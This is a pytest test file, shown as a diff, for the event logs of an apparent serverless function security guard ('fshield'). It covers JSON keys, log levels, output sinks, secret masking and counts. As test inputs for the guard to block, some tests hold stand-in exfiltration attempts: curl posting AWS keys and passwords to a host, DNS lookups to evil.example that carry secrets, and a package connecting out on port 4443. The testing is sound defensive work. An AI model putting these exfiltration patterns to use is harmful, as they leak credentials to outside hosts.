@@ -1,0 +1,483 @@
+"""Events: one JSON object a line in one write, with the keys, levels and counts that the contract promises."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import subprocess
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from fshield.local.emulator import Function
+from tests.contract.helpers import OUTSIDE, PYTHON, build, executable, launch, policy_of
+from tests.support import LAUNCHER, LAYER, ROOT, Guarded, clean_environment, policy_file, rules, run_guarded
+
+BLOCK = rules("block", "block", "block", "block")
+ALERT = rules("alert", "alert", "alert", "alert")
+RFC3339 = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z")
+KEYS = [
+    "function_shield", "event", "event_version", "timestamp", "level", "message", "policy", "mode", "policy_mode",
+    "policy_name", "rule", "reason", "details", "requestId", "ring", "count", "origin", "pid",
+]  # fmt: skip
+
+
+def python(code: str, policy: Any = BLOCK, **more: Any) -> Guarded:
+    return run_guarded([PYTHON, "-c", code], policy=policy, **more)
+
+
+def attempt(act: str) -> str:
+    return f"import os, socket, subprocess, sys\ntry: {act}\nexcept OSError as error: print(type(error).__name__)"
+
+
+# ---- one event ----
+
+
+def test_a_violation_has_every_key(tmp_path: Path) -> None:
+    package = tmp_path / "evilpkg"
+    package.mkdir()
+    (package / "__init__.py").write_text("")
+    (package / "x.py").write_text(
+        f"import socket\n\n\ndef run():\n    socket.create_connection(('{OUTSIDE}', 4443), 2)\n"
+    )
+    code = "import evilpkg.x\ntry: evilpkg.x.run()\nexcept OSError: pass"
+    result = python(code, env={"PYTHONPATH": str(tmp_path)})
+    (event,) = result.violations
+    assert set(KEYS) <= set(event)
+    assert (event["function_shield"], event["event"], event["event_version"]) == (True, "violation", 1)
+    assert RFC3339.fullmatch(event["timestamp"])
+    assert (event["level"], event["policy"], event["mode"], event["policy_mode"]) == (
+        "ERROR", "outbound_connectivity", "block", "block",
+    )  # fmt: skip
+    assert (event["policy_name"], event["rule"], event["reason"]) == ("test", None, "no_rule")
+    assert event["details"] == {"host": None, "ip": OUTSIDE, "port": 4443, "protocol": "tcp"}
+    assert (event["requestId"], event["ring"], event["count"]) == (None, "interpreter", 1)
+    origin = event["origin"]
+    assert origin["distribution"] == "evilpkg"
+    assert (origin["file"], origin["line"], origin["function"]) == (str(package / "x.py"), 5, "run")
+    assert origin["stack"] and all(isinstance(frame, str) for frame in origin["stack"])
+    assert event["message"].startswith(f"evilpkg tried to reach {OUTSIDE}:4443: blocked")
+
+
+def test_details_of_each_rule(tmp_path: Path) -> None:
+    handler = tmp_path / "handler.py"
+    handler.write_text(
+        "import subprocess\n"
+        "for act in (lambda: open('/tmp/function-shield-nonexistent'), lambda: subprocess.run(['/bin/true', 'a', 'b c']),\n"
+        "            lambda: open(__file__)):\n"
+        "    try: act()\n    except OSError: pass\n"
+    )
+    result = python(
+        "import sys; sys.path.insert(0, sys.argv[1]); import handler" if False else f"import sys; sys.path.insert(0, {str(tmp_path)!r}); import handler",
+        env={"_HANDLER": "handler.main", "LAMBDA_TASK_ROOT": str(tmp_path)},
+    )
+    details = {event["policy"]: event["details"] for event in result.violations}
+    assert details["read_write_tmp"]["path"] == "/tmp/function-shield-nonexistent"
+    assert details["create_child_process"]["path"] == str(Path("/bin/true").resolve())
+    assert details["create_child_process"]["arguments"] == "/bin/true a b c"
+    assert details["read_handler"]["path"] == str(handler)
+
+
+@pytest.mark.parametrize(
+    ("address", "shown"),
+    [
+        ("('127.66.66.66', 80)", {"ip": "127.66.66.66", "port": 80}),
+        ("('::ffff:127.66.66.66', 80)", {"ip": "127.66.66.66", "port": 80}),
+        ("('fd00::1', 81)", {"ip": "fd00::1", "port": 81}),
+    ],
+)
+def test_addresses_are_normalised(address: str, shown: dict[str, Any]) -> None:
+    family = "AF_INET6" if "::" in address else "AF_INET"
+    for kind, protocol in (("SOCK_STREAM", "tcp"), ("SOCK_DGRAM", "udp")):
+        result = python(attempt(f"socket.socket(socket.{family}, socket.{kind}).connect({address})"))
+        (event,) = result.violations
+        assert {**event["details"], "host": None} == {**shown, "host": None, "protocol": protocol}
+
+
+def test_a_name_is_refused_at_the_lookup() -> None:
+    result = python(attempt("socket.create_connection(('evil.example', 443))"))
+    (event,) = result.violations
+    assert (event["details"]["host"], event["details"]["ip"]) == ("evil.example", None)
+    assert "evil.example" in event["message"]
+
+
+def test_the_rule_that_decided_is_file_and_line(tmp_path: Path) -> None:
+    source = tmp_path / "named.yaml"
+    source.write_text(
+        "version: 1\npolicy:\n  outbound_connectivity:\n    mode: block\n    allow:\n"
+        "      - host: allowed.example\n        ports: [8443]\n"
+        "  read_write_tmp:\n    mode: block\n    allow:\n      - /tmp/function-shield-allowed/**\n"
+        "events: {allowed: first}\n"
+    )
+    code = (
+        "import os, socket\nfor act in (lambda: os.stat('/tmp'), lambda: open('/tmp/function-shield-allowed/x'),\n"
+        "  lambda: open('/tmp/function-shield-allowed/y'), lambda: socket.getaddrinfo('allowed.example', 443)):\n"
+        "  try: act()\n  except OSError: pass\n"
+    )
+    result = python(code, source)
+    allowed = [event for event in result.events if event["event"] == "allowed"]
+    assert [(event["rule"], event["level"], event["mode"]) for event in allowed] == [("named.yaml:11", "DEBUG", "allow")]
+    (event,) = result.of("outbound_connectivity")
+    assert event["reason"] == "port" and event["rule"] in (None, "named.yaml:6")
+
+
+def test_no_allowed_events_unless_asked_for() -> None:
+    result = python(attempt("open('/tmp/x/y')"), rules(tmp={"mode": "block", "allow": ["/tmp/**"]}))
+    assert [event["event"] for event in result.events] == ["armed"]
+
+
+def test_levels() -> None:
+    assert [event["level"] for event in python(attempt("os.listdir('/tmp')")).violations] == ["ERROR"]
+    assert [event["level"] for event in python(attempt("os.listdir('/tmp')"), ALERT).violations] == ["WARN"]
+    assert [event["level"] for event in python("pass").events] == ["INFO"]
+    assert [event["level"] for event in launch(["no-such-command"]).events] == ["FATAL"]
+    assert [event["level"] for event in launch(["/bin/true"], env={"FUNCTION_SHIELD_MODE": "off"}).events] == ["FATAL"]
+
+
+def test_armed(python_path: str = PYTHON) -> None:
+    (event,) = launch([python_path, "-c", "pass"]).events
+    assert event["event"] == "armed"
+    assert {"version", "policy_name", "policy_sha256", "rings", "runtime", "timestamp", "pid"} <= set(event)
+    assert event["rings"] == ["interpreter", "libc"]
+    assert re.fullmatch(r"python3\.\d+t?", event["runtime"])
+    assert re.fullmatch(r"[0-9a-f]{64}", event["policy_sha256"])
+    assert RFC3339.fullmatch(event["timestamp"])
+
+
+# ---- the line ----
+
+HUGE = "x" * 250
+
+
+@pytest.mark.parametrize(
+    "act",
+    [
+        f"open('/tmp/' + '/'.join(['{HUGE}'] * 15))",
+        f"os.mkdir('/tmp/' + '\\n' * 250)",
+        f"open(b'/tmp/' + b'/'.join([b'\\xff' * 250] * 15))",
+        f"open('/tmp/' + '/'.join(['\\x01' * 250] * 15))",
+        "open('/tmp/\\\\\"\\u2028\\x7f\\x9b\\U0001f600')",
+        f"subprocess.run(['/bin/true'] + ['{HUGE}\\n\\\"'] * 1000)",
+        "subprocess.run([b'/bin/true', b'\\xff\\xc0\\x80\\xed\\xa0\\x80'])",
+        f"socket.getaddrinfo('a' * 60 + '.' + 'b' * 60 + '.' + 'c' * 60 + '.' + 'd' * 60, 443)",
+        "socket.getaddrinfo('a\\nb', 443)",
+        "socket.getaddrinfo(b'\\xff\\xfe.example', 443)",
+        "socket.getaddrinfo('a' * 5000, 443)",
+        f"exec(compile('def ' + 'f' * 5000 + '(): open(\"/tmp/x\")\\n' + 'f' * 5000 + '()', 'file' * 2000, 'exec'))",
+        f"exec(compile('open(\"/tmp/x\")', 'a\\nb\\xff\\udcff', 'exec'))",
+    ],
+)
+@pytest.mark.parametrize("mode", ["block", "alert"])
+def test_one_valid_line_of_at_most_4096_bytes(act: str, mode: str, tmp_path: Path) -> None:
+    log = tmp_path / "log"
+    code = attempt(act) + "\nexcept ValueError: pass"
+    run_guarded(
+        [PYTHON, "-c", code],
+        policy=rules(mode, mode, mode, mode),
+        env={"FUNCTION_SHIELD_EVENTS": str(log), "AWS_LAMBDA_FUNCTION_NAME": "n" * 64},
+    )
+    lines = log.read_bytes().split(b"\n")
+    assert lines.pop() == b""
+    for line in lines:
+        assert len(line) + 1 <= 4096
+        event = json.loads(line.decode("utf-8", "strict"))
+        assert event["function_shield"] is True
+    assert len(lines) >= 2, "armed and a violation"
+    event = json.loads(lines[1])
+    assert event["event"] == "violation"
+    assert not re.search(r"[\x00-\x1f\x7f]", lines[1].decode())
+
+
+def test_one_write_each(tmp_path: Path) -> None:
+    """A datagram socket keeps writes apart: each must hold one whole line."""
+    code = "import os\nfor n in range(20):\n  try: os.mkdir(f'/tmp/function-shield/{n}')\n  except OSError: pass"
+    import socket
+
+    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
+    with ours, theirs:
+        ours.settimeout(10)
+        subprocess.run(
+            [LAUNCHER, PYTHON, "-c", code],
+            env=clean_environment({"FUNCTION_SHIELD_POLICY": policy_file(BLOCK)}),
+            stderr=theirs,
+            timeout=30,
+            check=True,
+        )
+        for _ in range(21):
+            data = ours.recv(100_000)
+            assert data.endswith(b"}\n") and data.count(b"\n") == 1 and len(data) <= 4096
+            json.loads(data)
+
+
+def test_threads_and_children_do_not_mix_their_lines() -> None:
+    code = (
+        "import os, threading\n"
+        "def act(who):\n"
+        "  for n in range(40):\n"
+        "    try: os.mkdir(f'/tmp/function-shield/{who}/{n}')\n"
+        "    except OSError: pass\n"
+        "threads = [threading.Thread(target=act, args=(n,)) for n in range(4)]\n"
+        "pids = [os.fork() for n in range(2)]\n"
+        "[thread.start() for thread in threads]; [thread.join() for thread in threads]\n"
+        "if all(pids): [os.waitpid(pid, 0) for pid in pids]"
+    )
+    result = python(code, rules(tmp="block"))
+    assert result.stderr == "", "every line of ours is whole"
+    assert result.returncode == 0
+    streams: dict[tuple[int, str], list[int]] = {}
+    for event in result.events:
+        streams.setdefault((event["pid"], event["nonce"]), []).append(event["seq"])
+    assert len(streams) >= 4
+    assert all(sorted(numbers) == list(range(len(numbers))) for numbers in streams.values())
+
+
+def test_the_sequence_and_the_nonce() -> None:
+    """What a function prints itself fits neither."""
+    code = attempt("os.listdir('/tmp')") + "\n" + attempt("open('/tmp/x')")
+    first, second = python(code), python(code)
+    for result in (first, second):
+        assert [event["seq"] for event in result.events] == [0, 1, 2]
+        assert len({event["nonce"] for event in result.events}) == 1
+    assert first.events[0]["nonce"] != second.events[0]["nonce"]
+
+
+# ---- where ----
+
+
+def test_stderr_stdout_and_path(tmp_path: Path) -> None:
+    code = "print('out'); import sys; print('err', file=sys.stderr)"
+    for sink in ("", "stderr"):
+        result = python(code, env={"FUNCTION_SHIELD_EVENTS": sink})
+        assert (result.stdout, result.stderr, len(result.events)) == ("out\n", "err\n", 1)
+    result = python(code, env={"FUNCTION_SHIELD_EVENTS": "stdout"})
+    assert result.stderr == "err\n" and result.stdout.startswith('{"function_shield":true') and "\nout\n" in result.stdout
+    log = tmp_path / "a log: with, odd name"
+    for _ in range(2):
+        result = python(code, env={"FUNCTION_SHIELD_EVENTS": str(log)})
+        assert (result.stdout, result.stderr) == ("out\n", "err\n")
+    assert [json.loads(line)["event"] for line in log.read_text().splitlines()] == ["armed", "armed"], "appended"
+    python(code, env={"FUNCTION_SHIELD_EVENTS": "relative.log"}, cwd=tmp_path)
+    assert (tmp_path / "relative.log").exists()
+
+
+def test_refusals_go_there_too(tmp_path: Path) -> None:
+    log = tmp_path / "log"
+    result = launch(["no-such-command"], env={"FUNCTION_SHIELD_EVENTS": str(log)})
+    assert (result.returncode, result.stderr) == (78, "")
+    assert json.loads(log.read_text())["event"] == "refused"
+    log.unlink()
+    env = {"FUNCTION_SHIELD_EVENTS": str(log), "FUNCTION_SHIELD_MODE": "off"}
+    assert launch(["/bin/true"], env=env).stderr == ""
+    assert json.loads(log.read_text())["event"] == "disabled"
+
+
+def test_a_path_under_tmp(tmp_name: Path) -> None:
+    """The only place that can be written on Lambda; the function itself still cannot reach it."""
+    code = attempt(f"open({str(tmp_name)!r}, 'a')")
+    result = python(code, env={"FUNCTION_SHIELD_EVENTS": str(tmp_name)})
+    assert result.stdout == "PolicyViolation\n"
+    assert [json.loads(line)["event"] for line in tmp_name.read_text().splitlines()] == ["armed", "violation"]
+
+
+def test_the_function_redirects_its_own_stderr(tmp_path: Path) -> None:
+    """Events go on to where stderr was at the start."""
+    code = f"import os\nos.dup2(os.open({str(tmp_path / 'own')!r}, os.O_CREAT | os.O_WRONLY), 2)\n" + attempt("os.listdir('/tmp')")
+    result = python(code)
+    assert len(result.violations) == 1
+    assert (tmp_path / "own").read_bytes() == b""
+    closed = python("import os; os.close(2)\n" + attempt("os.listdir('/tmp')"))
+    assert len(closed.violations) == 1
+
+
+def test_a_reader_that_went_away_does_not_kill_the_function() -> None:
+    with subprocess.Popen(
+        [LAUNCHER, PYTHON, "-c", "import sys; sys.stdin.read(1)\n" + attempt("os.listdir('/tmp')")],
+        env=clean_environment(), stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+    ) as process:  # fmt: skip
+        assert process.stderr is not None and process.stdin is not None and process.stdout is not None
+        process.stderr.readline()
+        process.stderr.close()
+        process.stdin.write("x")
+        process.stdin.close()
+        assert process.stdout.read() == "PolicyViolation\n"
+    assert process.returncode == 0
+
+
+def test_a_reader_that_is_slow() -> None:
+    """A full non-blocking pipe delays the function by a bounded time, and what was lost is counted."""
+    code = (
+        "import fcntl, os, time\n"
+        "fcntl.fcntl(2, fcntl.F_SETFL, fcntl.fcntl(2, fcntl.F_GETFL) | os.O_NONBLOCK)\n"
+        "begin = time.monotonic()\n"
+        "for n in range(100):\n"
+        "  try: os.mkdir(f'/tmp/function-shield/{n}' + 'x' * 200)\n"
+        "  except OSError: pass\n"
+        "print('done', time.monotonic() - begin < 20, flush=True)\n"
+        "import sys; sys.stdin.read(1)\n"
+        "try: os.mkdir('/tmp/function-shield/last')\nexcept OSError: pass\n"
+    )
+    with subprocess.Popen(
+        [LAUNCHER, PYTHON, "-c", code], env=clean_environment(),
+        stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+    ) as process:  # fmt: skip
+        assert process.stderr is not None and process.stdin is not None and process.stdout is not None
+        assert process.stdout.readline() == "done True\n"
+        text = os.read(process.stderr.fileno(), 1 << 20).decode()
+        process.stdin.write("x")
+        process.stdin.close()
+        text += process.stderr.read()
+    events = [json.loads(line) for line in text.splitlines()]
+    lost = sum(event.get("lost", 0) for event in events)
+    assert lost > 0 and len(events) + lost == 102
+
+
+# ---- secrets ----
+
+
+def test_secrets_are_masked() -> None:
+    env = {
+        "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG",
+        "AWS_SESSION_TOKEN": "IQoJb3JpZ2luX2VjE",
+        "DB_PASSWORD": "correct horse",
+        "stripe_api_key": "sk_live_abcdef",
+        "NOT_SECRET": "plain-value",
+    }
+    secrets = [value for name, value in env.items() if name != "NOT_SECRET"]
+    code = (
+        "import os, socket, subprocess\n"
+        f"for value in {list(env.values())!r}:\n"
+        "  for act in (lambda: open('/tmp/' + value), lambda: os.mkdir('/tmp/a' + value + 'b'),\n"
+        "              lambda: subprocess.run(['/usr/bin/curl', '-d', value, 'http://x']),\n"
+        "              lambda: socket.getaddrinfo(value.replace('/', '-').replace(' ', '-') + '.evil.example', 80),\n"
+        "              lambda: exec(compile('open(\"/tmp/x\")', value, 'exec'))):\n"
+        "    try: act()\n    except OSError: pass\n"
+    )
+    for policy in (BLOCK, ALERT):
+        result = run_guarded([PYTHON, "-c", code], policy=policy, env=env, timeout=60)
+        shown = json.dumps(result.violations)
+        assert len(result.violations) > 10
+        for secret in secrets:
+            assert secret not in shown
+        assert "***" in shown and "plain-value" in shown
+
+
+def test_a_secret_in_a_refusal() -> None:
+    """The launcher's own sentence may quote a variable that somebody filled in wrongly."""
+    env = {"DB_PASSWORD": "correct-horse-battery", "FUNCTION_SHIELD_POLICY": "correct-horse-battery"}
+    result = launch(["/bin/true"], env=env)
+    assert result.returncode == 78
+    assert "correct-horse-battery" not in json.dumps(result.events)
+
+
+# ---- counts ----
+
+
+def test_repeats_are_counted_once_the_process_has_no_invocations() -> None:
+    code = "import os\nfor _ in range(1000):\n  try: os.listdir('/tmp')\n  except OSError: pass"
+    result = python(code)
+    assert 1 <= len(result.violations) <= 2
+    assert result.violations[0]["count"] == 1
+
+
+def test_kinds_are_told_apart() -> None:
+    code = (
+        "import os\n"
+        "def one(path):\n  try: os.listdir(path)\n  except OSError: pass\n"
+        "for path in ('/tmp', '/tmp/a', '/tmp', '/tmp/b', '/tmp/a'): one(path)\n"
+    )
+    paths = [event["details"]["path"] for event in python(code).violations]
+    assert paths[:3] == ["/tmp", "/tmp/a", "/tmp/b"]
+
+
+FUNCTION = """
+import os, socket
+def handler(event, context):
+    for _ in range(event["times"]):
+        try: open("/tmp/function-shield-nonexistent")
+        except OSError: pass
+    try: os.mkdir("/tmp/function-shield-" + event["name"] + "/x")
+    except OSError: pass
+    return context.aws_request_id
+"""
+
+
+@pytest.fixture(scope="module")
+def invocations(tmp_path_factory: pytest.TempPathFactory) -> list[Any]:
+    """Three invocations of one function under the real runtime client."""
+    folder = tmp_path_factory.mktemp("function")
+    (folder / "app.py").write_text(FUNCTION)
+    with Function(folder, "app.handler", python=Path(ROOT / ".venv/bin/python"), layer=LAYER, policy="default") as function:
+        return [function.invoke({"times": times, "name": f"n{times}"}) for times in (5, 1, 3)]
+
+
+def test_request_ids(invocations: list[Any]) -> None:
+    seen = set()
+    for invocation in invocations:
+        assert invocation.error is None, invocation.error
+        violations = [event for event in invocation.events if event["event"] == "violation"]
+        assert violations
+        assert {event["requestId"] for event in violations} == {invocation.response}
+        seen.add(invocation.response)
+    assert len(seen) == 3
+
+
+def test_counts_are_written_when_the_invocation_ends(invocations: list[Any]) -> None:
+    counts = [
+        [event["count"] for event in invocation.events
+         if event["event"] == "violation" and event["details"]["path"] == "/tmp/function-shield-nonexistent"]
+        for invocation in invocations
+    ]  # fmt: skip
+    assert [sum(numbers) for numbers in counts] == [5, 1, 3]
+    assert counts[0] == [1, 4], "the first in full, the rest as one count"
+    assert len(counts[2]) == 1
+
+
+# ---- self-test ----
+
+
+def test_self_test(tmp_path: Path) -> None:
+    for argv in (["--self-test"], ["--self-test", PYTHON], ["--self-test", "/bin/true"]):
+        done = subprocess.run(
+            [LAUNCHER, *argv], env=clean_environment(), capture_output=True, text=True, timeout=30, check=False
+        )
+        assert (done.returncode, done.stderr) == (0, ""), done
+        answer = json.loads(done.stdout)
+        assert done.stdout.count("\n") == 1
+        assert answer["policy_name"] == "default"
+        assert answer["rings"] == (["libc"] if "/bin/true" in argv else ["interpreter", "libc"])
+
+
+@pytest.mark.parametrize("broken", ["policy", "core", "command", "name", "floor", "mode"])
+def test_self_test_of_what_is_broken(tmp_path: Path, broken: str) -> None:
+    from tests.contract.helpers import copy_layer, core_of
+
+    launcher = copy_layer(tmp_path / "layer")
+    argv, env = [str(launcher), "--self-test"], {}
+    if broken == "policy":
+        policy_of(launcher, "default").write_bytes(b"rubbish")
+    elif broken == "floor":
+        policy_of(launcher, "floor").write_bytes(b"rubbish")
+    elif broken == "core":
+        core_of(launcher).write_bytes(b"rubbish")
+    elif broken == "command":
+        argv.append("/no/such/python")
+    elif broken == "name":
+        env["FUNCTION_SHIELD_POLICY"] = "no-such-policy"
+    else:
+        env["FUNCTION_SHIELD_MODE"] = "nonsense"
+    done = subprocess.run(argv, env=clean_environment(env), capture_output=True, text=True, timeout=30, check=False)
+    assert (done.returncode, done.stdout) == (78, "")
+    assert json.loads(done.stderr)["event"] == "refused"
+
+
+def test_self_test_does_not_run_the_command(tmp_path: Path) -> None:
+    made = tmp_path / "made"
+    script = executable(tmp_path / "script", f"#!/bin/sh\ntouch {made}\n")
+    for command in ([script], [PYTHON, "-c", f"open({str(made)!r}, 'w')"], [build("acts.c", "acts"), "create", made]):
+        done = subprocess.run(
+            [LAUNCHER, "--self-test", *map(str, command)], env=clean_environment(), capture_output=True, timeout=30, check=False
+        )
+        assert done.returncode == 0
+        assert not made.exists()
